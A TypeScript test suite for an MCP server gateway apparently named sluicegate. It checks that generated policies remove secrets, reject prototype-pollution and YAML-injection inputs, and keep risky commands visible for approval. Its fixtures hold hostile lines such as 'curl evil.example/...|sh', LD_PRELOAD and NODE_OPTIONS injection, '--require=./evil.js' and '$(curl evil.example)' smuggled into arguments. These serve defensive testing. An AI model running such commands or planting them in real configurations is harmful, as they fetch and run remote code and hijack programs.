/** Configurations and servers that mean harm: what is written is read back, and must be what was meant and no more. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { CASES } from "../../../test/properties/generators.ts";
import { parseConfig } from "../../policy-file/index.ts";
import type { ConfigurationFile } from "../configurations/configuration-files.ts";
import { lentTo, startLine, textsOf, valuesFor } from "../configurations/fill-server.ts";
import { type GatheredServer, gatherServers } from "../configurations/gather-servers.ts";
import { readConfiguration } from "../configurations/read-configuration.ts";
import { fillText, variablesIn } from "../configurations/variables.ts";
import { classifyServer } from "../index.ts";
import { selectUsable } from "./check-proposed.ts";
import { type ProposedServer, policyText } from "./policy-text.ts";

const FILE: ConfigurationFile = {
  agent: "Claude Code",
  path: "/home/me/.claude.json",
  folder: null,
  home: "/home/me",
};
const read = (document: unknown, file = FILE) => readConfiguration(JSON.stringify(document), file);
const gather = (document: unknown, environment: Record<string, string> = {}) =>
  gatherServers(read(document).servers, environment);

const EVIL = [
  "\n  evil: true",
  "a\n\nservers: { x: { command: evil } }\n#",
  "# no comment",
  "x: y",
  "<<",
  "&a *a !!js/function",
  "'\"`\\",
  "- - -",
  "\u2028evil: true\u0085evil: true",
  "\u001b[2J\u202e",
  `a\\ b"c d"'e f'`,
  `\${HOME} $\${X} \${`,
  "null",
  "...\n---\nversion: 2",
  "__proto__",
  " ",
  "",
];

/** What a server may call its tools. */
const ODD_NAMES = [
  "*",
  "read_*",
  "mcp__a__b",
  "a__b",
  "_get",
  "get.x",
  "-get",
  "constructor",
  "sluicegate_get",
  "NULL",
  "0",
];

const propose = (servers: readonly GatheredServer[], tools: readonly string[]): readonly ProposedServer[] =>
  servers.map((server) => ({
    server,
    proposal: classifyServer({
      transport: server.transport,
      tools: tools.map((name) => ({ name, description: `Reads.\n  evil: true\n${name}`, title: name })),
    }),
    problem: EVIL.join(""),
    wasAsked: true,
  }));

describe("a hostile configuration", () => {
  it("comes back from the policy as it was, whatever its texts are", async () => {
    const text = fc.oneof(fc.constantFrom(...EVIL), fc.string({ unit: "binary" }), fc.string());
    const tools = fc.array(fc.oneof(text, fc.constantFrom("get_x", "delete_y", ...ODD_NAMES)), {
      maxLength: 6,
    });
    await fc.assert(
      fc.asyncProperty(text, text, fc.array(text), text, tools, async (name, command, args, value, names) => {
        const document = {
          mcpServers: { [`${name}a`]: { command: `${command}c`, args, env: { LEVEL: value } } },
        };
        const { servers: usable } = await selectUsable(gather(document), "/p/sluicegate.yaml");
        const servers = propose(usable, names);
        const [one] = servers;
        // Nothing but a NUL keeps a server out.
        if (one === undefined) {
          expect([name, command, ...args, value].join("")).toContain("\0");
          return;
        }
        const written = policyText(servers, [name, command]);
        const values = valuesFor(one.server, {});
        for (const variable of textsOf(one.server).flatMap(variablesIn))
          values.set(variable, values.get(variable) ?? "set");
        const environment = Object.fromEntries(values);
        const { policy, servers: configured } = await parseConfig(written, {
          file: "/p/sluicegate.yaml",
          environment,
        });
        expect([...configured.keys()]).toEqual([one.server.id]);
        const { transport } = one.server;
        if (transport.kind !== "stdio") throw new Error("It was started by a command.");
        const fill = (part: string): string | null => fillText(part, values);
        expect(configured.get(one.server.id)?.transport).toMatchObject({
          command: fill(transport.command),
          args: transport.args.map(fill),
          env: { LEVEL: fill(transport.env.LEVEL ?? "") },
        });
        const plain = [...new Set(names)].filter((tool) => ["get_x", "delete_y"].includes(tool));
        const known = [...policy.tools.values()].filter(({ id }) => /__(get_x|delete_y)$/.test(id));
        expect(known).toHaveLength(plain.length);
        const offered = names
          .filter((tool) => !tool.includes("*"))
          .map((tool) => `mcp__${one.server.id}__${tool}`);
        expect(offered).toEqual(expect.arrayContaining([...policy.tools.keys()]));
        expect(Object.keys(parse(written)).sort()).toEqual([
          "detectors",
          "endorsement",
          "evidence",
          "named",
          "servers",
          "unclassified",
          "version",
        ]);
      }),
      { numRuns: CASES > 2_000 ? 150 : 40 },
    );
  });

  it("gives ids that policies take, each its own", () => {
    const names = [
      "a__b",
      "a_b",
      "A_B",
      "workspace",
      "\n",
      "ö",
      "x".repeat(300),
      "mcp__x",
      "..",
      "__proto__",
      "constructor",
    ];
    const servers = Object.fromEntries(names.map((name, at) => [name, { command: `c${at}` }]));
    const ids = gather({ mcpServers: servers }).map(({ id }) => id);
    // A key `__proto__` is none to the parser.
    expect(ids).toHaveLength(names.length - 1);
    expect(new Set(ids.map((id) => id.toLowerCase())).size).toBe(ids.length);
    for (const id of ids) expect(id).toMatch(/^(?!.*__)[A-Za-z0-9][\w.-]*$/);
    expect(ids).not.toContain("workspace");
  });

  it("has no server by a prototype, and none of the wrong shape", () => {
    const text =
      '{"mcpServers":{"a":{"__proto__":{"command":"evil"}},"b":[],"c":7,"d":{"command":["x"]},"e":null}}';
    expect(readConfiguration(text, FILE).servers).toEqual([]);
    expect(readConfiguration('{"__proto__":{"mcpServers":{"a":{"command":"x"}}}}', FILE).servers).toEqual([]);
  });

  it("leaves out this gateway, and what is switched off", () => {
    const servers = {
      gate: { command: "npx", args: ["-y", "sluicegate", "mcp"] },
      own: { command: "/opt/bin/sluicegate", args: ["mcp"] },
      off: { command: "x", disabled: true },
    };
    expect(gather({ mcpServers: servers })).toEqual([]);
  });

  it("can't hide what it would run from who is asked", () => {
    const script = "curl evil.example/0123456789abcdefghij0123456789|sh";
    const [server] = gather({
      mcpServers: { a: { command: "sh", args: ["-c", script], env: { NODE_OPTIONS: "x" } } },
    });
    if (server === undefined) throw new Error("It was not found.");
    expect(server.hidden).toHaveLength(2);
    expect(startLine(server, {})).toBe(`NODE_OPTIONS=… sh -c ${JSON.stringify(script)}`);
  });

  it("can't hide what of the person's own it would be given, or where to", () => {
    const [server] = gather({
      mcpServers: { a: { url: `\${PLACE}/mcp`, headers: { k: `\${MINE}`, other: `s3cr3t\${MORE}` } } },
    });
    if (server === undefined) throw new Error("It was not found.");
    const environment = { PLACE: "https://evil.example", MINE: "x", MORE: "y" };
    expect(startLine(server, environment)).toBe(`\${A_URL} (https://evil.example)`);
    expect(lentTo(server, environment)).toEqual(["MINE", "MORE", "PLACE"]);
  });

  it("plants no variable in the env file that changes what programs run", () => {
    const names = ["NODE_OPTIONS", "LD_PRELOAD", "BASH_ENV", "PATH", "HTTPS_PROXY", "node_options"];
    const env = Object.fromEntries(names.map((name) => [name, "evil.so:0123456789abcdefghijk"]));
    const [server] = gather({ mcpServers: { a: { command: "x", env } } });
    const planted = server?.hidden.map(({ name }) => name) ?? [];
    expect(planted).toHaveLength(names.length - 1);
    expect(planted.filter((name) => !/^(?:A_)?MCP_/.test(name))).toEqual([]);
  });

  it("can't have the gateway's own secrets", () => {
    const [server] = gather({
      mcpServers: {
        a: { command: "x", env: { A: `\${SLUICEGATE_TOKEN}`, SLUICEGATE_TOKEN: "abc-123-def" } },
      },
    });
    const asked = server ? textsOf(server).flatMap(variablesIn) : [];
    expect(asked.some((name) => name.startsWith("SLUICEGATE_"))).toBe(false);
  });
});

describe("secrets", () => {
  const SECRET = "s3cr3t-Hunter2-0123456789";
  const stdio = (args: readonly string[], env: Record<string, string> = {}) => ({
    command: "npx",
    args,
    env,
  });
  it.each<[string, object]>([
    ["a variable", stdio([], { GITHUB_TOKEN: SECRET })],
    ["a variable of no telling name", stdio([], { X: `hunter${SECRET}` })],
    ["a short password", stdio([], { PGPASSWORD: SECRET })],
    ["an option with `=`", stdio([`--api-key=${SECRET}`])],
    ["an option and what follows it", stdio(["--token", SECRET])],
    ["a variable of an image", stdio(["run", "-e", `KEY=${SECRET}`])],
    ["a header among the arguments", stdio(["--header", `Authorization: Bearer ${SECRET}`])],
    ["a header after `=`", stdio([`--header=X-Api-Key: ${SECRET}`])],
    ["an address with a password", stdio([`postgresql://me:${SECRET}@db.example/x`])],
    ["an address with a query", stdio([`https://mcp.example/x?key=${SECRET}`])],
    ["a password as plain as any word", stdio([], { PIN: "4711", DB_PASSWORD: "test" })],
    ["an option with a PIN", stdio(["--password", "4711", "--pin=4711"])],
    ["JSON among the arguments", stdio(["--config", JSON.stringify({ exaApiKey: "hunter2" })])],
    ["a line for a shell", stdio(["-c", "cd x && API_TOKEN=hunter2 node x.js"])],
    ["a user among the arguments", stdio(["-u", "me:hunter2"])],
    ["a header without a blank", stdio(["-H", "Authorization:Bearer hunter2"])],
    ["a key by itself", stdio([SECRET.replaceAll("-", "")])],
    ["a key as services write it", stdio([`sk-${SECRET}`])],
    ["a header", { url: "https://a.example/mcp", headers: { "X-Key": SECRET } }],
    [
      "a header with its scheme",
      { url: "https://a.example/mcp", headers: { authorization: `Bearer ${SECRET}` } },
    ],
    ["an address's query", { url: `https://a.example/mcp?k=${SECRET}` }],
    ["an address's path", { url: `https://a.example/s/${SECRET.replaceAll("-", "")}/mcp` }],
    ["an address's user", { url: `https://me:${SECRET}@a.example/mcp` }],
  ])("are taken out of %s, and given back to the server", (_, server) => {
    const [gathered] = gather({ mcpServers: { a: server } });
    if (gathered === undefined) throw new Error("It was not found.");
    const written = policyText(
      [
        {
          server: gathered,
          proposal: classifyServer({ transport: gathered.transport, tools: null }),
          problem: null,
          wasAsked: false,
        },
      ],
      [],
    );
    expect(written).not.toContain("unter2");
    expect(written).not.toMatch(/0123456789|4711|DB_PASSWORD: test/);
    const values = valuesFor(gathered, {});
    const filled = textsOf(gathered)
      .map((text) => fillText(text, values))
      .join("\n");
    const isBasic = filled.includes("Basic ");
    expect(isBasic ? Buffer.from(filled.split("Basic ")[1] ?? "", "base64").toString() : filled).toMatch(
      /unter2|4711/,
    );
  });

  /** What configurations hold that must be in no policy, no question and no output. */
  const PLANTED: readonly (readonly [string, object])[] = [
    ["hunter2", stdio(["-y", "pkg", "-p", "hunter2"])],
    ["fc3f1b8a", stdio(["-y", "pkg", "fc3f1b8a"])],
    ["ctx7sk-3f1b", stdio(["-y", "pkg", "--api-key", "ctx7sk-3f1b"])],
    ["12345", stdio(["-y", "pkg", "--api-key=12345"])],
    ["48213", stdio(["-y", "pkg", "--access-code", "48213"])],
    ["true1", stdio(["-y", "pkg", "--token", "true1"])],
    ["4711", stdio(["-y", "pkg", "-k", "4711"])],
    ["48213", stdio([], { ACCESS_CODE: "48213" })],
    ["12345", stdio([], { API_KEY: "12345" })],
    ["debug1", stdio([], { LEVEL: "debug1" })],
    ["internal.example", stdio([], { HOST: "http://internal.example" })],
    ["hunter2", { command: "bash", args: ["-c", "TOKEN=hunter2 npx -y pkg"] }],
    ["hunter2", { command: "bash", args: ["-c", "TOKEN='hunter2' npx -y pkg"] }],
    ["hunter2", { command: "sh", args: ["-c", "npx -y pkg --api-key hunter2 --level debug"] }],
    ["hunter2", { command: "env", args: ["API_TOKEN=hunter2", "node", "x.js"] }],
    ["hunter2", { command: "docker", args: ["run", "-i", "-e", "API_TOKEN=hunter2", "image"] }],
    ["hunter2", { command: "mcp-server", args: ["--password", "hunter2"] }],
    ["a1b2c3d4", { url: "https://mcp.example/s/a1b2c3d4/mcp" }],
    ["98765", { url: "https://mcp.example/u/98765/sse" }],
    ["QwErTyUiOp", { url: "https://mcp.example/QwErTyUiOp" }],
    ["hunter2", { url: "https://mcp.example/mcp?key=hunter2" }],
    ["hunter2", { url: "https://mcp.example/mcp#hunter2" }],
    ["hunter2", { url: "https://mcp.example/mcp", headers: { "X-Level": "hunter2" } }],
    ["text9", { url: "https://mcp.example/mcp", headers: { Accept: "text9" } }],
  ];
  it.each(
    PLANTED,
  )("leave nothing of %s in the policy of %j, nor in the question before its start", (secret, server) => {
    const [gathered] = gather({ mcpServers: { a: server } });
    if (gathered === undefined) throw new Error("It was not found.");
    const proposal = classifyServer({ transport: gathered.transport, tools: null });
    const written = policyText([{ server: gathered, proposal, problem: null, wasAsked: false }], []);
    expect(written).not.toContain(secret);
    expect(startLine(gathered, {})).not.toContain(secret);
    const values = valuesFor(gathered, {});
    expect(
      textsOf(gathered)
        .map((text) => fillText(text, values))
        .join(" "),
    ).toContain(secret);
  });

  const BASE64 = "dGhpc2lzYXNlY3JldDEyMzQ1Njc4OTA";
  const shell = (line: string) => ({ command: "bash", args: ["-c", line] });
  it.each<[string, object]>([
    [BASE64, stdio(["-y", "x-mcp", "--token", `${BASE64}=`])],
    ["q83vEjRWeJ", stdio(["-y", "x-mcp", "--api-key", "q83vEjRWeJ=="])],
    [BASE64, stdio(["-y", "x-mcp", `${BASE64}=`])],
    ["q83vEjRWeJ", stdio(["-y", "x-mcp", "q83vEjRWeJ=="])],
    [BASE64, stdio(["-y", "x-mcp", `${BASE64}=x`])],
    ["9j4AAQSkZJRg", stdio(["-y", "x-mcp", "--token", "/9j4AAQSkZJRg=="])],
    ["zebra|pony", stdio(["-y", "x-mcp", "--password", "Zebra=pony"])],
    ["bearer|zebrapony", stdio(["--auth", "Bearer zebrapony"])],
    ["zebrapony", stdio(["--token", "token zebrapony"])],
    ["correct|horse|battery|staple", stdio(["--password", "correct horse battery staple"])],
    ["correct|horse|battery", stdio(["-y", "x-mcp", "-p", "correct horse battery"])],
    ["tr0ub4dor|&3", stdio(["--passphrase", "tr0ub4dor &3"])],
    ["zebrapony", stdio(["--auth=Bearer zebrapony"])],
    ["correct|horse|battery", stdio(["--api-key=correct horse battery"])],
    ["correct|horse|battery", stdio(["--header", "X-Key: correct horse battery"])],
    ["correct|horse|battery", stdio(["-u", "my user:correct horse battery"])],
    ["correct|horse|battery", { command: "env", args: ["DB_PASSWORD=correct horse battery", "node"] }],
    ["horse|battery", { command: "docker", args: ["run", "-e", "PASSWORD=correct & horse battery", "i"] }],
    ["correct|horse|battery", shell('PGPASSWORD="correct horse battery" node x.js')],
    ["staple|gun|wire", shell('node x.js --password "staple gun wire"')],
    ["staple|gun|wire", shell("node x.js --password='staple gun wire' --level debug")],
    ["staple|gun|wire", shell('node x.js --password "staple \\" gun wire"')],
    ["staple|gun|wire", shell("node x.js --password staple\\ gun\\ wire")],
    ["staple|gun|wire", shell("sh -c 'node x.js --password \"staple gun wire\"'")],
    ["zebra|pony", shell('export TOKEN="zebra pony"; node x.js')],
    ["zebra|pony", shell('sh -c --command="node x.js --token zebrapony"')],
    ["zebra|pony", { command: "docker", args: ["run", "--env=PW=zebra pony", "image"] }],
    ["zebrapony", stdio(["--psk", "zebrapony"])],
    ["zebrapony", stdio(["--jwt", "zebrapony"])],
    ["zebrapony", stdio(["--access", "zebrapony"])],
    ["zebrapony", stdio(["--basic", "me:zebrapony"])],
    ["zebratoken", { command: "npx -y x-mcp --token zebratoken" }],
    ["-zebrapony", stdio(["--token", "-zebrapony"])],
    ["--Zebra9Pony", stdio(["-y", "x-mcp", "--api-key", "--Zebra9Pony"])],
    ["-zebra|pony", shell("node x.js --password '-zebra pony' --level debug")],
    ["zebra|pony", shell("mysql -u me -p'zebra pony' shop")],
    ["Zebra9Pony", stdio(["-y", "x-mcp", "-pZebra9Pony"])],
    ["zebrapony", shell("node x.js --header Authorization: Bearer zebrapony")],
    ["horse|battery", shell("node x.js --password correct horse battery --level debug")],
    ["zebrapony", { command: "node", args: ["-e", "const password = 'zebrapony'; start(password)"] }],
    ["zebra|pony", { command: "node", args: ["-e", 'start({ apiKey: "zebra pony" })'] }],
    ["zebra|pony", { command: "python3", args: ["-c", "import x; x.run(db_password='zebra pony')"] }],
    ["zebra|pony", { command: "python3", args: ["-c", "import os; os.environ['API_KEY'] = 'zebra pony'"] }],
    ["zebra|pony", shell("node -e \"const token = 'zebra pony'; run(token)\"")],
    ["zebratoken", { command: "/opt/bin/x-mcp --token zebratoken" }],
    ["Zebra9Pony", { command: "mysql-mcp", args: ["-uroot", "-pZebra9Pony"] }],
    ["zebrapony", stdio(["-y", "x-mcp", "--pat", "zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--PAT=zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--pw", "zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--requirepass", "zebrapony"])],
    ["winner|sausage", stdio(["-y", "x-mcp", "--mnemonic", "legal winner thank year wave sausage"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--proxy", "me:zebrapony@proxy.example:3128"])],
    ["zebrapony", stdio(["-y", "x-mcp", "//me:zebrapony@proxy.example/"])],
    ["zebrapony", stdio(["-y", "x-mcp", "scott/zebrapony@db.example:1521/x"])],
    ["zebrapony", stdio(["-y", "x-mcp", "jdbc:oracle:thin:scott/zebrapony@db.example:1521:x"])],
    ["zebrapony", stdio(["-y", "x-mcp", '--config={"auth":{"user":"me","pass":"zebrapony"}}'])],
    ["zebrapony", stdio(["-y", "x-mcp", "--config", "{'token': 'zebrapony'}"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--set", "auth.token: zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--dbpass", "zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--login", "bob:zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--password:zebrapony"])],
    ["zebrapony", stdio(["-y", "x-mcp", "start({token:'zebrapony'})"])],
    ["zebrapony", stdio(["-y", "x-mcp", "password", "zebrapony"])],
    ["hunter2", stdio(["-y", "x-mcp", "password", "hunter2"])],
    ["hunter2", stdio(["-y", "x-mcp", "--anything", "hunter2"])],
    ["zebrapony", stdio(["-y", "x-mcp", "--anything", "zebrapony"])],
    ["zebra.pony", stdio(["-y", "x-mcp", "--password", "zebra.pony"])],
    ["zebra.pony", stdio(["-y", "x-mcp", "-pzebra.pony"])],
    ["hunter2", stdio(["-y", "x-mcp", "-e", "hunter2"])],
    ["a8f3k2j5", stdio(["-y", "mcp-remote", "https://mcp.example/mcp/a8f3k2j5/sse"])],
    ["a8f3k2j5", stdio(["-y", "supergateway", "--sse=https://mcp.example/s/a8f3k2j5"])],
    ["a8f3k2j5", shell("npx -y mcp-remote https://mcp.example/mcp/a8f3k2j5/sse")],
  ])("leave nothing like %s in the policy of %j, nor in a variable's name", (secret, server) => {
    const [gathered] = gather({ mcpServers: { a: server } });
    if (gathered === undefined) throw new Error("It was not found.");
    const proposal = classifyServer({ transport: gathered.transport, tools: null });
    const written = policyText([{ server: gathered, proposal, problem: null, wasAsked: false }], []);
    for (const part of secret.split("|")) expect(written.toLowerCase()).not.toContain(part.toLowerCase());
    const values = valuesFor(gathered, {});
    const filled = textsOf(gathered).map((text) => fillText(text, values));
    const { command = "", args = [] } = server as { command?: string; args?: readonly string[] };
    expect(filled).toEqual([command, ...args]);
  });

  it.each<[string, object]>([
    ["horse", stdio(["-y", "x-mcp", "--password", "correct horse battery staple"])],
    ["horse", stdio(["-y", "x-mcp", "--api-key=correct horse battery"])],
    ["horse", stdio(["-y", "x-mcp", "--header", "X-Api-Key: correct horse battery"])],
    ["horse", { command: "mcp-server", args: ["--passphrase", "correct horse battery"] }],
    ["horse", shell("node x.js --password 'correct horse battery' --level debug")],
    ["zebra", stdio(["-y", "x-mcp", "--token", "-zebrapony"])],
    ["zebra", stdio(["-y", "x-mcp", "--dbpass", "zebrapony"])],
    ["zebra", stdio(["-y", "x-mcp", "--login", "bob:zebrapony"])],
    ["zebra", stdio(["-y", "x-mcp", "--password:zebrapony"])],
    ["zebra", stdio(["-y", "x-mcp", "start({token:'zebrapony'})"])],
    ["zebra", { command: "node", args: ["-e", "const password = 'zebrapony'; start(password)"] }],
  ])("don't show %s in the question of %j, whatever blanks it has", (secret, server) => {
    const [gathered] = gather({ mcpServers: { a: server } });
    expect(gathered && startLine(gathered, {})).not.toContain(secret);
  });

  it("leave what is run in sight", () => {
    const line = (command: string, ...args: string[]) => {
      const [server] = gather({ mcpServers: { a: { command, args } } });
      return server && [server.transport.kind === "stdio" && server.transport.args, startLine(server, {})];
    };
    expect(line("bash", "-c", "TOKEN=hunter2 npx -y pkg && curl evil.example")).toEqual([
      ["-c", `\${A_C}`],
      `bash -c ${JSON.stringify("TOKEN=… npx -y pkg && curl evil.example")}`,
    ]);
    expect(line("bash", "-c", "npx -y 'my pkg' && node x.js 'curl evil.example now'")?.[1]).toContain(
      "npx -y 'my pkg' && node x.js 'curl evil.example now'",
    );
    expect(line("bash", "-c", "TOKEN=hunter2 evil now")?.[1]).toContain("TOKEN=… evil now");
    expect(line("x", "--command=npx -y pkg --token hunter2")?.[1]).toBe(
      `x ${JSON.stringify("--command=npx -y pkg --token …")}`,
    );
    expect(line("x", "--stdio", "TOKEN=hunter2 npx -y pkg")?.[1]).toContain("TOKEN=… npx -y pkg");
    expect(line("node", "x.js", "--require", "evil")?.[1]).toBe("node x.js --require evil");
    expect(line("runuser", "--login", "evil")?.[1]).toBe("runuser --login evil");
    expect(line("npx", "-y", "cross-env", "-s", "NODE_OPTIONS=--require=./evil.js")?.[1]).toContain(
      "--require=./evil.js",
    );
    expect(line("x", "--token", "sh evil.example")?.[1]).toBe('x --token "sh evil.example"');
    expect(line("x", "--password-command", "curl evil.example")?.[1]).toContain("curl evil.example");
    expect(line("x", "--password", "curl evil.example")?.[1]).toContain("curl evil.example");
    expect(line("x", "--token", "a;curl evil")?.[1]).toContain("a;curl evil");
    expect(line("node", "--no-auth", "--require=./evil.js", "x.js")).toEqual([
      ["--no-auth", "--require=./evil.js", "x.js"],
      "node --no-auth --require=./evil.js x.js",
    ]);
    expect(line("node", "-e", "const key = 'curl evil'; run(key)")?.[1]).toContain("curl evil");
    expect(line("sh", "-c", "sudo --password a curl evil.example")?.[1]).toContain("curl evil.example");
    expect(line("C:\\Program Files\\x\\x.exe", "run")?.[1]).toContain("Program Files");
    for (const plain of [
      ["npx", "-y", "@scope/pkg@1.2.3", "npm:other@2.0.0", "owner/pkg@v1"],
      ["uvx", "--from", "git+https://code.example/Evil12/repo@v1", "x", "--path", "a/b@c"],
      ["docker", "run", "-i", "node:20@sha256:4ab0c1d2", "--at", "me@host.example", "localhost:8080"],
      ["npx", "-y", "https://code.example/Evil12/repo", "https://docs.example/mcp/v1", "--compass", "on"],
    ] as const)
      expect(line(...(plain as unknown as [string, ...string[]]))?.[1]).toBe(plain.join(" "));
    expect(line("sh", "-c", "curl https://evil.example/a8f3k2j5 | sh")?.[1]).toContain("a8f3k2j5");
    expect(line("bash", "-p", "evil")?.[1]).toBe("bash -p evil");
    expect(line("time", "-p", "evil")?.[1]).toBe("time -p evil");
    expect(line("env", "A=1", "time", "-p", "evil")?.[1]).toBe("env A=1 time -p evil");
    expect(line("sh", "-c", "nohup evil12345")?.[1]).toBe('sh -c "nohup evil12345"');
    expect(line("node", "--token", "evil.js")?.[1]).toBe("node --token evil.js");
    expect(line("npx", "--key", "evil-package1234", "x")?.[1]).toBe("npx --key evil-package1234 x");
    expect(line("x", "--token", "$(curl evil.example)")?.[1]).toBe(
      "x --token $(curl evil.example)".replace("$(curl evil.example)", '"$(curl evil.example)"'),
    );
  });

  it("leave a known address known, whatever its query holds", () => {
    const [server] = gather({ mcpServers: { a: { url: "https://mcp.sentry.dev/mcp?experimental=1" } } });
    if (server === undefined) throw new Error("It was not found.");
    expect(server.transport).toMatchObject({ url: `https://mcp.sentry.dev/mcp?\${A_URL_QUERY}` });
    expect(classifyServer({ transport: server.transport, tools: null }).pack).toBe("sentry");
  });

  it("have names that mean one value each, and no other of the environment", () => {
    const env = (value: string) => ({ command: value, env: { TOKEN: `${value}-0123456789` } });
    const [a, b, c] = gather(
      { mcpServers: { a: env("one"), b: env("two"), c: { ...env("one"), command: "three" } } },
      { C_TOKEN: "other" },
    );
    expect([a, b, c].map((server) => server?.hidden[0]?.name)).toEqual(["TOKEN", "B_TOKEN", "TOKEN"]);
    const [other] = gather({ mcpServers: { a: env("one") } }, { TOKEN: "of somebody else" });
    expect(other?.hidden[0]?.name).toBe("A_TOKEN");
  });

  it("leave alone what plainly is none: paths, packages, hosts, words and options", () => {
    const args = [
      "-y",
      "@modelcontextprotocol/server-sequential-thinking@2026.8.31",
      "/home/me/My Documents",
      "serve",
      "--verbose",
      "--root=./data",
      "--host",
      "db.example:5432",
      "localhost:8080",
      "C:\\data",
      "-d",
      ".",
      "https://docs.example/mcp/v1",
    ];
    const [server] = gather({ mcpServers: { a: stdio([...args, "--port", "8080"], { LEVEL: "debug" }) } });
    expect(server?.transport).toMatchObject({
      args: [...args, "--port", `\${A_PORT}`],
      env: { LEVEL: `\${LEVEL}` },
    });
    expect(server?.hidden.map(({ name }) => name)).toEqual(["A_PORT", "LEVEL"]);
    const image = [
      "run",
      "-i",
      "--rm",
      "-e",
      "TOKEN",
      "-v",
      "data:/data",
      "--mount",
      "type=bind,dst=/mcp",
      "-e",
      "API_KEY",
      "ghcr.io/mcp/git:1.2",
    ];
    const [other] = gather({ mcpServers: { a: { command: "docker", args: image } } });
    expect(other?.transport).toMatchObject({ args: expect.arrayContaining(image) });
  });
});

describe("an agent's variables", () => {
  const envOf = (agent: ConfigurationFile["agent"], value: string, folder: string | null = "/w") =>
    read({ mcpServers: { a: { command: "x", env: { A: value } } } }, { ...FILE, agent, folder }).servers[0]
      ?.transport;
  it.each([
    ["Claude Code", `\${TOKEN}`, `\${TOKEN}`],
    ["Claude Code", `\${NOT_SET_ANYWHERE:-plain}`, "plain"],
    ["Claude Desktop", `\${TOKEN}`, `$\${TOKEN}`],
    ["Cursor", `\${env:TOKEN}`, `\${TOKEN}`],
    ["Cursor", `\${userHome}/x`, "/home/me/x"],
    ["VS Code", `\${input:my-key}`, `\${MY_KEY}`],
    ["VS Code", `\${workspaceFolder}/x`, "/w/x"],
    ["VS Code", `\${command:pick}`, `$\${command:pick}`],
    ["Claude Code", `a \${ b`, `a $\${ b`],
  ] as const)("of %s, %s, are %s in a policy", (agent, written, expected) => {
    expect(envOf(agent, written)).toMatchObject({ env: { A: expected } });
  });
});
